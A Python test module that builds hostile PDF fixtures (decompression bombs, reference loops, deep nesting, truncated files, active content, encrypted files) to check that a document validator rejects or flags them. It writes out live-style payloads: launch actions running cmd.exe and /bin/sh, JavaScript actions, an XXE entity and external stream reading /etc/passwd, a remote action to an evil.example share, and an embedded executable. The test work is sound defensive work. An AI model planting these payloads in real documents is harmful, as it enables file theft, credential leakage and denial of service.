"""Hostile PDFs: bombs, loops, floods, actions, encryption."""

from __future__ import annotations

import hashlib
import zlib
from collections.abc import Iterator

from tests.hostile.case import DELIVERED, Case, file
from tests.validation import samples
from tests.validation.samples import assembled, pdf, stream

_PADDING = bytes.fromhex(  # ISO 32000-2, 7.6.4.3.2, algorithm 2
    "28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a"
)


def documents() -> Iterator[Case]:
    """All of them."""
    yield from _bombs()
    yield from _structure()
    yield from _active()
    yield from _encrypted()


def _bombs() -> Iterator[Case]:
    kind = "PDF bomb"
    zeros = samples.bomb(256 << 20)
    flate = b"/Filter/FlateDecode"
    heavy = (DELIVERED, "too_large_to_parse", "too_complex")
    yield file(kind, "flate.pdf", pdf(stream(zeros, flate), page=b"/Contents 4 0 R"), *heavy)
    twice = zlib.compress(zeros, 9)
    nested = b"/Filter[/FlateDecode/FlateDecode]"
    again = pdf(stream(twice, nested), page=b"/Contents 4 0 R")
    yield file(kind, "nested-flate.pdf", again, *heavy)
    yield file(kind, "forms.pdf", samples.exploding_forms_pdf, "too_large_to_parse", "too_complex")
    many = b"/F Do " * 200
    yield file(
        kind,
        "forms-wide.pdf",
        lambda: samples.exploding_forms_pdf(9).replace(b"/F Do " * 10, many),
        "too_large_to_parse",
        "too_complex",
        "damaged",
        DELIVERED,
    )
    yield file(kind, "wall.pdf", pdf(media="[0 0 14400 14400]"), "too_many_pixels")
    yield file(
        kind, "endless-wall.pdf", pdf(media="[0 0 1000000000 1000000000]"), "too_many_pixels"
    )
    yield file(kind, "negative.pdf", pdf(media="[0 0 -1e30 -1e30]"), "too_many_pixels", "damaged",
               DELIVERED)  # fmt: skip
    yield file(kind, "no-area.pdf", pdf(media="[0 0 0 0]"), "damaged", DELIVERED)
    unit = pdf(page=b"/UserUnit 75000")
    yield file(kind, "user-unit.pdf", unit, DELIVERED, "too_many_pixels")
    yield file(kind, "sum.pdf", pdf(pages=50, media="[0 0 4500 4500]"), "too_many_pixels")
    yield file(kind, "pages.pdf", lambda: pdf(pages=5000), "too_many_pages")
    yield file(kind, "pages-100000.pdf", lambda: pdf(pages=100_000), "too_many_pages")
    huge = b"/Type/XObject/Subtype/Image/Width 100000/Height 100000/BitsPerComponent 8"
    picture = stream(samples.bomb(64 << 20), huge + b"/ColorSpace/DeviceGray" + flate)
    drawn = b"/Contents 4 0 R/Resources<</XObject<</I 5 0 R>>>>"
    drawing = stream(b"100 0 0 100 0 0 cm /I Do")
    yield file(kind, "picture.pdf", pdf(drawing, picture, page=drawn), *heavy)
    endless = stream(b"{ 1 1 1 2 copy 3 copy 4 copy } " * 2000, b"/FunctionType 4/Domain[0 1 0 1]"
                     b"/Range[0 1 0 1 0 1]")  # fmt: skip
    shading = b"<</ShadingType 1/ColorSpace/DeviceRGB/Function 6 0 R>>"
    shaded = b"/Contents 4 0 R/Resources<</Shading<</S 5 0 R>>>>"
    yield file(kind, "shading.pdf", pdf(stream(b"/S sh"), shading, endless, page=shaded),
               DELIVERED, "too_complex", "damaged")  # fmt: skip
    text = b"BT /F 1 Tf " + b"(text) Tj " * 500_000 + b"ET"
    font = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
    written = b"/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>"
    yield file(kind, "text.pdf", lambda: pdf(stream(text), font, page=written), *heavy)


def _structure() -> Iterator[Case]:
    kind = "PDF that leads astray"
    yield file(kind, "loop.pdf", samples.looping_pdf(), "damaged")
    yield file(kind, "millions.pdf", samples.lying_pdf(), DELIVERED)
    yield file(kind, "none.pdf", pdf(pages=0), "damaged")
    yield file(kind, "noise.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 9 + b"%%EOF", "damaged")
    yield file(kind, "nothing-but-its-name.pdf", b"%PDF-1.7\n%%EOF", "damaged", "truncated")
    good = pdf()
    yield file(kind, "previous.pdf", good.replace(b"/Root", b"/Prev 9/Root"), DELIVERED, "damaged")
    itself = good.replace(b"/Root", b"/Prev %d/Root" % good.index(b"xref\n"))
    yield file(kind, "previous-itself.pdf", itself, DELIVERED, "damaged")
    yield file(kind, "shifted.pdf", good.replace(b"startxref\n", b"startxref\n9"), DELIVERED,
               "damaged")  # fmt: skip
    deep = b"[" * 200_000 + b"]" * 200_000
    yield file(kind, "deep-array.pdf", pdf(b"<</A" + deep + b">>", page=b"/A 4 0 R"), DELIVERED,
               "damaged", "too_complex")  # fmt: skip
    tree = [b"<</Type/Catalog/Pages 2 0 R>>"]
    tree += [b"<</Type/Pages/Count 1/Kids[%d 0 R]>>" % (number + 3) for number in range(2000)]
    tree.append(b"<</Type/Page/MediaBox[0 0 9 9]>>")
    yield file(kind, "deep-tree.pdf", lambda: assembled(tree), "damaged", DELIVERED, "too_complex")
    yield file(kind, "itself.pdf", pdf(b"4 0 R", page=b"/Contents 4 0 R"), DELIVERED, "damaged")
    long = b"<</Length 9999999999>>stream\nx\nendstream"
    yield file(kind, "long-stream.pdf", pdf(long, page=b"/Contents 4 0 R"), DELIVERED, "damaged")
    yield file(
        kind, "long-name.pdf", pdf(b"<</" + b"N" * 3_000_000 + b" 1>>"), DELIVERED, "damaged"
    )
    yield file(kind, "late.pdf", b"\n" * 1000 + good, DELIVERED)
    yield file(kind, "no-tree.pdf", assembled([b"<</Type/Catalog>>"]), "damaged")
    yield file(kind, "no-end.pdf", good[:-3], "truncated")
    yield file(kind, "half-a-change.pdf", good + b"3 0 obj\n<</Type/Page/Cont", "truncated")


def _active() -> Iterator[Case]:
    kind = "PDF that acts"
    actions = {
        "javascript": (b"<</S/JavaScript/JS(app.alert\\(1\\))>>", "JavaScript"),
        "launch": (b"<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>>>", "launch actions"),
        "launch-unix": (b"<</S/Launch/F(/bin/sh)>>", "launch actions"),
        "escaped": (b"<</S/J#61va#53cript/JS(1)>>", "JavaScript"),
        "submit": (b"<</S/SubmitForm/F(http://example.com/)>>", "sent off"),
        "media": (b"<</Type/Annot/Subtype/RichMedia>>", "rich media"),
        "attached": (b"<</Type/Annot/Subtype/FileAttachment/FS 5 0 R>>", "embedded files"),
        "associated": (b"<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>", "embedded files"),
    }
    for name, (action, noted) in actions.items():
        yield file(kind, f"{name}.pdf", pdf(action), DELIVERED, noted=noted)
    locked = samples.packed_objects_pdf(b"<</S/Launch>>", filters=b"/LZWDecode")
    yield file(kind, "packed-otherwise.pdf", locked, DELIVERED, noted="cannot be looked into")
    for name, hidden, noted in (
        ("packed-javascript", b"<</S/JavaScript/JS(1)>>", "JavaScript"),
        ("packed-launch", b"<</S/Launch/F(cmd.exe)>>", "launch actions"),
    ):
        yield file(kind, f"{name}.pdf", samples.packed_objects_pdf(hidden), DELIVERED, noted=noted)
    yield file(kind, "attachment.pdf", _with_attachment(b"MZ program"), DELIVERED,
               noted="embedded files")  # fmt: skip
    named = assembled([
        b"<</Type/Catalog/Pages 2 0 R/Names<</JavaScript<</Names[(a)4 0 R]>>>>>>",
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]>>",
        b"<</S/JavaScript/JS(this.submitForm\\('http://example.com'\\))>>",
    ])  # fmt: skip
    yield file(kind, "named-javascript.pdf", named, DELIVERED, noted="JavaScript")
    entity = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><xdp>&e;</xdp>'
    xfa = assembled([
        b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[]/XFA 4 0 R>>>>",
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]>>",
        stream(entity),
    ])  # fmt: skip
    yield file(kind, "xfa.pdf", xfa, DELIVERED, noted="XFA")
    outside = stream(b"", b"/F(/etc/passwd)/FFilter/FlateDecode")
    yield file(kind, "external-stream.pdf", pdf(outside, page=b"/Contents 4 0 R"), DELIVERED)
    remote = b"<</S/GoToR/F(\\\\\\\\evil.example\\\\share\\\\x.pdf)/D[0/Fit]>>"
    yield file(kind, "remote.pdf", pdf(remote), DELIVERED)


def _with_attachment(content: bytes) -> bytes:
    return assembled([
        b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(a.exe)4 0 R]>>>>>>",
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]>>",
        b"<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>",
        stream(content, b"/Type/EmbeddedFile"),
    ])  # fmt: skip


def _encrypted() -> Iterator[Case]:
    kind = "encrypted PDF"
    yield file(kind, "locked.pdf", samples.encrypted_pdf(), "encrypted")
    yield file(kind, "locked-rc4.pdf", rc4_encrypted(b"secret"), "encrypted")
    yield file(kind, "owner-only.pdf", rc4_encrypted(b""), DELIVERED)
    unknown = b"/Encrypt<</Filter/Unknown/V 9/R 9>>/ID[<00><00>]"
    yield file(kind, "unknown-lock.pdf", pdf(trailer=unknown), "encrypted", "damaged")
    aes = (
        b"/Encrypt<</Filter/Standard/V 5/R 6/Length 256/P -4/StmF/StdCF/StrF/StdCF"
        b"/CF<</StdCF<</CFM/AESV3/AuthEvent/DocOpen/Length 32>>>>/O<%b>/U<%b>/OE<%b>/UE<%b>"
        b"/Perms<%b>>>/ID[<00><00>]"
    )
    locked = aes % (b"11" * 48, b"22" * 48, b"33" * 32, b"44" * 32, b"55" * 16)
    yield file(kind, "locked-aes256.pdf", pdf(trailer=locked), "encrypted")


def rc4_encrypted(user: bytes, owner: bytes = b"owner") -> bytes:
    """A PDF with a real 40-bit lock that the user's password opens (ISO 32000-1, 7.6.3)."""
    ident, rights = bytes(16), (-4).to_bytes(4, "little", signed=True)
    padded = (user + _PADDING)[:32]
    owners = _rc4(hashlib.md5((owner + _PADDING)[:32], usedforsecurity=False).digest()[:5], padded)
    key = hashlib.md5(padded + owners + rights + ident, usedforsecurity=False).digest()[:5]
    users = _rc4(key, _PADDING)
    lock = b"/Encrypt<</Filter/Standard/V 1/R 2/P -4/O<%b>/U<%b>>>/ID[<%b><%b>]" % tuple(
        part.hex().encode() for part in (owners, users, ident, ident)
    )
    return pdf(trailer=lock)


def _rc4(key: bytes, data: bytes) -> bytes:
    """The cipher that PDF used until 2.0."""
    state = list(range(256))
    j = 0
    for i in range(256):
        j = (j + state[i] + key[i % len(key)]) & 255
        state[i], state[j] = state[j], state[i]
    out, i, j = bytearray(), 0, 0
    for byte in data:
        i = (i + 1) & 255
        j = (j + state[i]) & 255
        state[i], state[j] = state[j], state[i]
        out.append(byte ^ state[(state[i] + state[j]) & 255])
    return bytes(out)
